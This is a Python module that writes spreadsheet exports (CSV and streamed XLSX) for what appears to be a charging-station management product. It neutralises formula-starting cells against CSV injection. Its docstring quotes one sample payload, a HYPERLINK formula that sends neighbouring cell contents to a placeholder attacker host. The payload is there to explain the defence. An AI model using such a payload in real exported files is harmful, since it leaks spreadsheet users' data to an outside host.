"""Every file the product writes for a spreadsheet: formula-safe cells, CSV and XLSX, streamed.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice Calc: a site named
``=HYPERLINK("http://evil.example/?x="&A1,"clic")`` would become a link that sends
the neighbouring cells away (OWASP "CSV Injection"). Such text is written with a
leading apostrophe, which both programs show as text. Numbers (``int``,
``Decimal``, ``float``) are written as they are: a negative amount stays a number.

Every export goes through :func:`safe_cell`. :func:`csv_bytes` is the small in-memory
CSV writer (``;``-separated, CRLF, UTF-8 with the byte order mark Excel needs);
:func:`export_response` is the writer of every list a buyer keeps (stations, charging
sessions, statistics, alerts, badges, reservations, the audit log): the rows are
written as they come, in batches, to a temporary file (XLSX: ``xlsxwriter`` in
``constant_memory`` mode, typed cells: dates as dates in the tenant's zone, numbers as
numbers, text as text), then the file is streamed back and removed. At most
:data:`MAX_EXPORT_ROWS` rows: a longer export is refused (:class:`TooManyRows`) and the
page asks for a shorter period.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import os
import tempfile
import unicodedata
from collections.abc import AsyncIterable, AsyncIterator, Iterable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

from litestar.response import Stream

__all__ = [
    "EXPORT_FORMATS",
    "FORMULA_STARTERS",
    "MAX_EXPORT_ROWS",
    "TooManyRows",
    "csv_bytes",
    "export_format",
    "export_response",
    "safe_cell",
    "write_export",
]

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
#: The most rows one export may hold (an XLSX sheet takes 1,048,576; this keeps a file
#: a buyer can open and a request the server answers in seconds).
MAX_EXPORT_ROWS = 100_000
#: Rows written per batch (the XLSX writer runs in a thread, off the event loop).
BATCH = 1_000
CHUNK = 64 * 1024
EXPORT_FORMATS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


class TooManyRows(Exception):
    """The export would hold more than :data:`MAX_EXPORT_ROWS` rows: nothing is sent."""

    def __init__(self, limit: int) -> None:
        count = f"{limit:,}".replace(",", "\u202f")
        super().__init__(f"L'export est limité à {count} lignes : réduisez la période ou affinez les filtres.")
        self.limit = limit


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should receive it: text never starts a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int | float | Decimal | dt.date | dt.datetime):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTERS) else text


def csv_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None = None, delimiter: str = ";") -> bytes:
    """A CSV file of ``rows`` (after ``header``), every cell through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    if header is not None:
        writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")


def export_format(path: str) -> str:
    """``csv`` or ``xlsx`` from the requested path's suffix (``/t/…/journal.xlsx``)."""
    return "xlsx" if path.lower().endswith(".xlsx") else "csv"


# --------------------------------------------------------------------------- typed cells


def _local(value: dt.datetime, zone: ZoneInfo) -> dt.datetime:
    """A spreadsheet has no time zones: the tenant's wall-clock time, to the second."""
    if value.tzinfo is not None:
        value = value.astimezone(zone).replace(tzinfo=None)
    return value.replace(microsecond=0)


def _csv_cell(value: Any, zone: ZoneInfo) -> Any:
    value = safe_cell(value)
    if isinstance(value, dt.datetime):
        return _local(value, zone).isoformat(sep=" ")
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


class _CsvFile:
    def __init__(self, path: Path, zone: ZoneInfo) -> None:
        self.handle = path.open("w", encoding="utf-8-sig", newline="")
        self.writer = csv.writer(self.handle, delimiter=";", lineterminator="\r\n")
        self.zone = zone

    def write(self, rows: list[Sequence[Any]]) -> None:
        self.writer.writerows([_csv_cell(v, self.zone) for v in row] for row in rows)

    def close(self) -> None:
        self.handle.close()


class _XlsxFile:
    def __init__(self, path: Path, zone: ZoneInfo, sheet: str) -> None:
        import xlsxwriter

        # constant_memory: each row goes to disk once the next starts (rows in order only).
        self.book = xlsxwriter.Workbook(str(path), {"constant_memory": True, "strings_to_formulas": False,
                                                    "strings_to_urls": False, "strings_to_numbers": False})
        self.sheet = self.book.add_worksheet(_sheet_name(sheet))
        self.zone = zone
        self.row = 0
        self.header = self.book.add_format({"bold": True})
        self.datetime = self.book.add_format({"num_format": "dd/mm/yyyy hh:mm:ss"})
        self.date = self.book.add_format({"num_format": "dd/mm/yyyy"})
        self.decimals: dict[int, Any] = {}

    def _decimal_format(self, value: Decimal) -> Any:
        exponent = value.as_tuple().exponent
        places = min(-exponent, 6) if isinstance(exponent, int) and exponent < 0 else 0
        if places not in self.decimals:
            self.decimals[places] = self.book.add_format({"num_format": "0." + "0" * places if places else "0"})
        return self.decimals[places]

    def write(self, rows: list[Sequence[Any]], *, header: bool = False) -> None:
        put = self.sheet
        for values in rows:
            for col, raw in enumerate(values):
                value = safe_cell(raw)
                if isinstance(value, dt.datetime):
                    put.write_datetime(self.row, col, _local(value, self.zone), self.datetime)
                elif isinstance(value, dt.date):
                    put.write_datetime(self.row, col, dt.datetime.combine(value, dt.time()), self.date)
                elif isinstance(value, Decimal):
                    put.write_number(self.row, col, float(value), self._decimal_format(value))
                elif isinstance(value, int | float):
                    put.write_number(self.row, col, value)
                elif value == "":
                    put.write_blank(self.row, col, None)
                else:
                    put.write_string(self.row, col, value, self.header if header else None)
            self.row += 1

    def close(self) -> None:
        self.sheet.freeze_panes(1, 0)
        self.book.close()


def _sheet_name(name: str) -> str:
    cleaned = "".join("-" if c in "[]:*?/\\" else c for c in name).strip("'") or "Export"
    return cleaned[:31]


async def _rows(rows: AsyncIterable[Sequence[Any]] | Iterable[Sequence[Any]]) -> AsyncIterator[Sequence[Any]]:
    if isinstance(rows, AsyncIterable):
        async for row in rows:
            yield row
    else:
        for row in rows:
            yield row


async def write_export(
    fmt: str, header: Sequence[str], rows: AsyncIterable[Sequence[Any]] | Iterable[Sequence[Any]], *,
    tz: str = "Europe/Paris", sheet: str = "Export", max_rows: int = MAX_EXPORT_ROWS,
) -> Path:
    """Write ``header`` and ``rows`` to a temporary CSV or XLSX file and return its path.

    Rows are consumed as they come and written in batches in a thread, so a long export
    neither holds every row in memory nor stops the event loop. More than ``max_rows``
    rows raise :class:`TooManyRows` (the file is removed).
    """
    if fmt not in EXPORT_FORMATS:
        raise ValueError(f"unknown export format: {fmt!r}")
    zone = ZoneInfo(tz)
    fd, name = tempfile.mkstemp(prefix="centrale-export-", suffix=f".{fmt}")
    os.close(fd)
    path = Path(name)
    out: _CsvFile | _XlsxFile = _XlsxFile(path, zone, sheet) if fmt == "xlsx" else _CsvFile(path, zone)
    try:
        if isinstance(out, _XlsxFile):
            out.write([list(header)], header=True)
        else:
            out.write([list(header)])
        batch: list[Sequence[Any]] = []
        count = 0
        async for row in _rows(rows):
            count += 1
            if count > max_rows:
                raise TooManyRows(max_rows)
            batch.append(row)
            if len(batch) >= BATCH:
                await asyncio.to_thread(out.write, batch)
                batch = []
        if batch:
            await asyncio.to_thread(out.write, batch)
        await asyncio.to_thread(out.close)
    except BaseException:
        try:
            out.close()
        finally:
            _remove(path)
        raise
    return path


def _remove(path: Path) -> None:
    path.unlink(missing_ok=True)


async def _file_chunks(path: Path) -> AsyncIterator[bytes]:
    try:
        with path.open("rb") as handle:
            while chunk := await asyncio.to_thread(handle.read, CHUNK):
                yield chunk
    finally:
        _remove(path)


def _disposition(filename: str) -> str:
    ascii_name = unicodedata.normalize("NFKD", filename).encode("ascii", "ignore").decode() or "export"
    ascii_name = "".join(c if c.isalnum() or c in "-_." else "-" for c in ascii_name)
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"


async def export_response(
    fmt: str, filename: str, header: Sequence[str], rows: AsyncIterable[Sequence[Any]] | Iterable[Sequence[Any]], *,
    tz: str = "Europe/Paris", sheet: str = "Export", max_rows: int = MAX_EXPORT_ROWS,
) -> Stream:
    """The export as a download: ``filename`` without its suffix (``recharges-2026-12-03``)."""
    path = await write_export(fmt, header, rows, tz=tz, sheet=sheet, max_rows=max_rows)
    return Stream(
        _file_chunks(path),
        media_type=EXPORT_FORMATS[fmt],
        headers={"Content-Disposition": _disposition(f"{filename}.{fmt}"), "Content-Length": str(path.stat().st_size),
                 "Cache-Control": "no-store", "X-Content-Type-Options": "nosniff"},
    )
